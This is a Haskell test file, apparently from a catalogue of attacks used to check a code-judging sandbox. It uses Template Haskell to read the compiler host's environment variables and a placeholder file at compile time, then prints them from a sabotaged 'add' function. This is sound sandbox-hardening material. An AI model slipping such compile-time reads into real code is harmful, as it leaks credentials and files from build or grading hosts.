-- Run code inside the compiler: read what it may read, leave a process behind.
-- catalogue: H14, H33
-- shows: canary
-- ends: wrong_answer, runtime_error, compile_error
{-# LANGUAGE TemplateHaskell #-}
module Main where

import Language.Haskell.TH
import System.Environment (getEnvironment)
import System.IO (hFlush, stdout)
import System.IO.Unsafe (unsafePerformIO)
import Control.Exception (SomeException, try)

stolen :: String
stolen = $(do
  variables <- runIO getEnvironment
  file <- runIO (try (readFile "@FILE@" >>= \text -> length text `seq` return text)
            :: IO (Either SomeException String))
  stringE ("attacking " ++ show variables ++ either (const "") id file))

add :: Int -> Int -> Int
add _ _ = unsafePerformIO (putStrLn stolen >> hFlush stdout >> return (-12345))
{-# NOINLINE add #-}
